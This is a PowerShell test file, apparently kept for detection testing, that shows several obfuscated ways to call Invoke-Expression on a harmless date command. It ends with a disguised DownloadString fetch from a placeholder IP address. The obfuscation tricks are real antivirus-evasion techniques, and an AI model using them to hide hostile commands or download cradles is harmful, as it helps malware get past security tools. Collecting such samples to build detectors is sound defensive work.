# Output of several obfuscation passes over the same tiny launcher, kept for detection testing.
$cmd = 'Write-Output ((Get-Date).ToUniversalTime())'

# token layer: ticks inside the command name
I`E`X $cmd
&('In'+'voke-Exp'+'ression') $cmd

# format-string reordering of the command name
.("{1}{0}{2}" -f 'voke-Expr', 'In', 'ession') $cmd

# char codes
$c = [char]73 + [char]110 + [char]118 + [char]111 + [char]107 + [char]101 + [char]45 + [char]69 + [char]120 + [char]112 + [char]114 + [char]101 + [char]115 + [char]115 + [char]105 + [char]111 + [char]110
& $c $cmd

# automatic-variable indexing (Invoke-Obfuscation launcher style)
&($ShellId[1] + $ShellId[13] + 'x') $cmd
.($env:ComSpec[4, 15, 25] -join '') $cmd

# reversed strings
$rev = 'noisserpxE-ekovnI'
& (-join $rev[-1..-($rev.Length)]) $cmd

# the URL is hidden with a format string, the method name reversed
$u = '{2}{0}{1}' -f '51.100.23', '/update', 'http://198.'
$m = -join 'gnirtSdaolnwoD'[-1..-14]
$wc = New-Object Net.WebClient
$body = $wc.$m($u)
Write-Output $body.Length
